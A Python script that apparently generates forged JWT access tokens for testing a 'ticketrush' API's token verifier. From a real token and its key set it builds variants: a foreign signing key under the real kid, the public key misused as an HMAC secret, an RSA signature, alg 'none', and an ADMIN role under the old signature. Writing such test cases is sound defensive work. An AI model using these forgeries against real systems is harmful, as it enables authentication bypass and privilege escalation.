"""Forges access tokens with PyJWT: reads {"token", "jwks"} as JSON, writes {name: token}; PyJWT checks the real one first."""

import base64
import json
import sys

import jwt
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.asymmetric.rsa import generate_private_key
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

given = json.load(sys.stdin)
token = given["token"]
header = jwt.get_unverified_header(token)
published = jwt.PyJWKSet.from_dict(given["jwks"])[header["kid"]].key
claims = jwt.decode(token, published, algorithms=["EdDSA"], audience="ticketrush-api", issuer="ticketrush")

theirs = Ed25519PrivateKey.generate()
rsa = generate_private_key(65537, 2048)
names = {"typ": header["typ"], "kid": header["kid"]}
raw = published.public_bytes(Encoding.Raw, PublicFormat.Raw)


def by_hand(head, payload, signature):
    part = lambda value: base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()
    return f"{part(head)}.{part(payload)}.{signature}"


json.dump(
    {
        "another key under our kid": jwt.encode(claims, theirs, algorithm="EdDSA", headers=names),
        "another key and no kid": jwt.encode(claims, theirs, algorithm="EdDSA", headers={"typ": "at+jwt"}),
        "the public key as a secret (HS256)": jwt.encode(claims, raw, algorithm="HS256", headers=names),
        "the public key as a secret (HS512)": jwt.encode(claims, raw + raw, algorithm="HS512", headers=names),
        "RSA under our kid": jwt.encode(claims, rsa, algorithm="RS256", headers=names),
        "no algorithm": jwt.encode(claims, None, algorithm="none", headers=names),
        "another role under the old signature": by_hand(header, {**claims, "role": "ADMIN"}, token.split(".")[2]),
        "no algorithm under the old signature": by_hand({**header, "alg": "none"}, claims, token.split(".")[2]),
        "another type of its own making": jwt.encode(claims, theirs, algorithm="EdDSA"),
    },
    sys.stdout,
)
